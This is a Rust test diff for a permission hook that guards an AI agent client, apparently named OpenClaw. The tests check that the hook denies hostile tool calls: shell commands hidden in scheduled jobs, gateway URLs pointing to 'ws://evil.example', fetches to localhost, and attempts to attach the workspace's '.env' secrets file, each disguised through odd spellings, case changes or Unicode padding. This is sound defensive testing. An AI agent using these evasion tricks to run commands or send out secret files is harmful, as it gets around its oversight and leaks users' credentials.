@@ -85,6 +85,149 @@ fn a_file_that_is_called_a_denial_is_one_and_no_other_is() {
     }
 }
 
+/// Runs the hook on a call of OpenClaw.
+fn claw(world: &World, tool: &str, params: &Value) -> Output {
+    let payload = json!({
+        "client": "openclaw", "version": 1, "tool": tool, "kind": null, "params": params, "derived_paths": null,
+        "workspace": world.workspace, "directory": null, "backend": false,
+    });
+    ask("openclaw", &payload.to_string())
+}
+
+/// Checks that a call of OpenClaw was denied for this reason.
+fn assert_claw_denied(output: &Output, code: &str) {
+    let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!((&answer["decision"], &answer["code"]), (&json!("deny"), &json!(code)), "{answer}");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+#[test]
+fn openclaw_cannot_schedule_a_command_wherever_its_parts_stand() {
+    let world = world(false);
+    let stream = json!({"kind": "stream", "command": ["sh", "-c", "id"]});
+    for job in [
+        json!({"name": "x", "kind": "stream", "command": ["sh", "-c", "id"], "message": "go"}),
+        json!({"data": {"name": "x", "schedule": stream}}),
+        json!({"name": "x", "schedule ": stream}),
+        json!({"name": "x", "Schedule": stream}),
+        json!({"name": "x", "script": "code()", "everyMs": 60000}),
+        json!({"schedule": {"kind": "every", "everyMs": 1, "argv": ["id"]}}),
+        json!({"schedule": {"kind": " stream"}}),
+        json!({"payload": {"kind": "agentTurn", "message": "x", "command": ["id"]}}),
+        json!({"schedule": [stream]}),
+        json!(stream.to_string()),
+    ] {
+        assert_claw_denied(&claw(&world, "automations", &json!({"action": "add", "job": job})), "tool.denied");
+        assert_claw_denied(
+            &claw(&world, "cron", &json!({"action": "update", "jobId": "1", "job": job})),
+            "tool.denied",
+        );
+        assert_claw_denied(&claw(&world, "automations", &json!({"action": "add", "data": job})), "tool.denied");
+    }
+    for flat in [stream, json!({"script": "code()"}), json!({"gateway_url": "ws://evil.example"})] {
+        let mut call = flat;
+        call["action"] = json!("add");
+        assert_claw_denied(&claw(&world, "automations", &call), "tool.denied");
+    }
+}
+
+#[test]
+fn openclaw_cannot_hide_a_field_or_value_behind_another_spelling() {
+    let world = world(true);
+    for (tool, params, code) in [
+        ("sessions_spawn", json!({"task": "x", "project_git_url": "http://e.example/x"}), "tool.denied"),
+        ("message", json!({"action": "send", "gateway_url": "ws://evil.example"}), "tool.denied"),
+        ("message", json!({"action": "send", "gatewayUrl": "", "gateway_url": "ws://evil.example"}), "tool.denied"),
+        ("gateway", json!({"action": "config.schema.lookup", "gateway_url": "ws://evil.example"}), "tool.denied"),
+        ("nodes", json!({"action": " invoke", "invokeCommand": "system.run"}), "tool.denied"),
+        ("browser", json!({"action": "importprofile "}), "tool.denied"),
+        ("browser", json!({"action": "open", "target_url": "http://127.0.0.1/"}), "net.host-not-allowed"),
+        ("web_fetch", json!({"URL": "http://127.0.0.1/"}), "net.host-not-allowed"),
+        ("web_fetch", json!({"url": "\u{feff}http://127.0.0.1/"}), "net.host-not-allowed"),
+        ("web_fetch", json!({"url": "\u{a0}http://127.0.0.1/"}), "net.host-not-allowed"),
+        ("Exec", json!({"command": "id"}), "tool.denied"),
+        ("exec ", json!({"command": "id"}), "tool.denied"),
+        ("BASH", json!({"command": "id"}), "tool.denied"),
+        ("Read", json!({"path": ".env"}), "tool.denied"),
+        ("bash", json!({"command": "id", "Host": "node"}), "tool.denied"),
+        (" Plugins", json!({"action": "disable"}), "tool.denied"),
+    ] {
+        assert_claw_denied(&claw(&world, tool, &params), code);
+    }
+    assert_denied(&call(&world, "bash", &json!({"command": "id"})), "tool.denied");
+    assert_denied(&call(&world, "Bash ", &json!({"command": "id"})), "tool.denied");
+}
+
+#[test]
+fn openclaw_cannot_send_a_hidden_file_in_any_field() {
+    let world = world(true);
+    let hidden = world.workspace.join(".env");
+    let hidden = hidden.to_str().unwrap();
+    let file_url = format!("file://{hidden}");
+    for name in [
+        "media",
+        "mediaUrl",
+        "media_url",
+        "path",
+        "filePath",
+        "file_path",
+        "fileUrl",
+        "file_url",
+        "url",
+        "image",
+        "name",
+    ] {
+        for text in [hidden, &file_url, &format!("MEDIA : {hidden}"), &format!("\u{a0}{hidden}")] {
+            let attached = json!({"action": "send", "attachments": [{"media": "a.txt"}, {name: text, "type": "file"}]});
+            let output = claw(&world, "message", &attached);
+            assert_eq!(output.status.code(), Some(2), "attachments[].{name}: {text}");
+            if name != "name" {
+                let output = claw(&world, "message", &json!({"action": "send", name: text}));
+                assert_eq!(output.status.code(), Some(2), "{name}: {text}");
+            }
+        }
+    }
+    for name in ["image", "image_url", "fileUrl", "media", "path"] {
+        let output = claw(&world, "image", &json!({"prompt": "x", name: format!("MEDIA : {hidden}")}));
+        assert_eq!(output.status.code(), Some(2), "{name}");
+    }
+    let act = json!({"action": "act", "request": {"kind": "upload", "url": "https://e.example", "paths": [hidden]}});
+    assert_claw_denied(&claw(&world, "browser", &act), "fs.masked");
+    let batch = json!({"action": "act", "request": {"kind": "batch", "actions": [{"kind": "x", "filePath": hidden}]}});
+    assert_claw_denied(&claw(&world, "browser", &batch), "fs.masked");
+}
+
+#[test]
+fn openclaw_works_on_with_these_fields() {
+    let world = world(true);
+    for (tool, params) in [
+        ("automations", json!({"action": "list", "includeDisabled": true})),
+        ("automations", json!({"action": "update", "jobId": "1", "job": {"enabled": false, "failureAlert": false}})),
+        (
+            "automations",
+            json!({"action": "add", "job": {
+                "name": "x", "schedule": {"kind": "every", "every_ms": 60000}, "sessionTarget": "isolated",
+                "payload": {"kind": "agentTurn", "message": "go", "toolsAllow": ["read"]},
+                "delivery": {"mode": "announce", "channel": "telegram", "to": "1"},
+            }}),
+        ),
+        ("message", json!({"action": "send", "to": "x", "message": "done", "media": "a.txt"})),
+        (
+            "message",
+            json!({"action": "send", "attachments": [{"type": "file", "media": "./a.txt", "mimeType": "text/plain"}]}),
+        ),
+        ("image", json!({"image": "https://example.com/x.png", "prompt": "what is it"})),
+        ("browser", json!({"action": "act", "request": {"kind": "click", "ref": "e1"}})),
+        ("browser", json!({"action": "upload", "paths": ["a.txt"]})),
+        ("nodes", json!({"action": "status"})),
+        ("bash", json!({"command": "make test"})),
+    ] {
+        let output = claw(&world, tool, &params);
+        assert_eq!(output.status.code(), Some(0), "{tool} {params}: {}", String::from_utf8_lossy(&output.stderr));
+        assert!(!String::from_utf8_lossy(&output.stdout).contains("ask"), "{tool} {params}");
+    }
+}
+
 #[test]
 fn a_link_that_leads_to_what_is_hidden_is_refused_for_every_use() {
     let world = world(true);
